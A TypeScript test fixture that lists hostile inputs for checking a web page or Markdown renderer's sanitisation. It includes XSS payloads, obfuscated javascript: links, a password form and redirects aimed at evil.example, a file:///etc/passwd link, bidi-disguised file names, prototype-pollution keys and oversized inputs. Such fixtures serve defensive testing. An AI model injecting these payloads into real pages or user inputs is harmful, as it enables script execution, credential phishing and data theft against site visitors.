/** What somebody could write into a source, or type as a visitor, to make the page do something. */
export const HOSTILE: Readonly<Record<string, string>> = {
  script: '<script>pwned()</script><img src=x onerror="pwned()"><svg onload=pwned()>',
  frames:
    '<iframe srcdoc="<script>parent.pwned()</script>"></iframe><object data="data:text/html,x"></object>',
  attributes: '" onmouseover="pwned()" autofocus onfocus="pwned()" x="',
  styles:
    '<style>*{display:none}</style><link rel=stylesheet href="https://evil.example/x.css"><base href="https://evil.example/">',
  forms:
    '<form action="https://evil.example/"><input name=password><button>OK</button></form><meta http-equiv=refresh content="0;url=https://evil.example/">',
  'script links':
    '[a](javascript:pwned()) [b](JaVaScRiPt:pwned()) [c](java\nscript:pwned()) [d](vbscript:pwned()) <javascript:pwned()>',
  'data links':
    '[a](data:text/html,<script>pwned()</script>) [b](blob:https://evil.example/1) [c](file:///etc/passwd) [d](command:workbench.action.terminal.new) [e](vscode://settings)',
  'encoded links':
    '[a](&#106;avascript:pwned()) [b](%6Aavascript:pwned()) [c](https://user:pass@evil.example/) [d](//evil.example/x) [e](https://pizza.example\\@evil.example/)',
  'Markdown pictures':
    '![x](https://evil.example/track.png) ![y](javascript:pwned()) [![z](https://evil.example/z.png)](https://evil.example)',
  'Markdown definitions':
    '[a][1]\n\n[1]: javascript:pwned()\n\n<https://evil.example/> &lt;b&gt; &#60;script&#62;',
  'Markdown depth': `${'> '.repeat(500)}${'- '.repeat(500)}${'*_'.repeat(800)}${'['.repeat(800)}`,
  'bidi overrides': 'safe \u202Etxt.exe\u202C \u2066\u2067\u202D\u202B end \u200F',
  'control characters': 'a\u0000b\u0007c\u001B[31mred\u009B31m\u2028line\u2029end\uFEFF\uFFF9',
  'lone surrogates': 'half \uD83C and \uDF55 half',
  'combining marks': `Z${'\u0300\u0334\u0489'.repeat(400)}algo`,
  placeholders: `{name} {@maya} {__proto__} \uE000 \uE001 {{7*7}} \${pwned()} %s %o`,
  prototypes: '__proto__',
  constructors: 'constructor',
  'one long word': 'x'.repeat(20_000),
  'many lines': 'line\n'.repeat(2_000),
};

/** The names that objects have from birth. */
export const BORN_NAMES = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'prototype'];
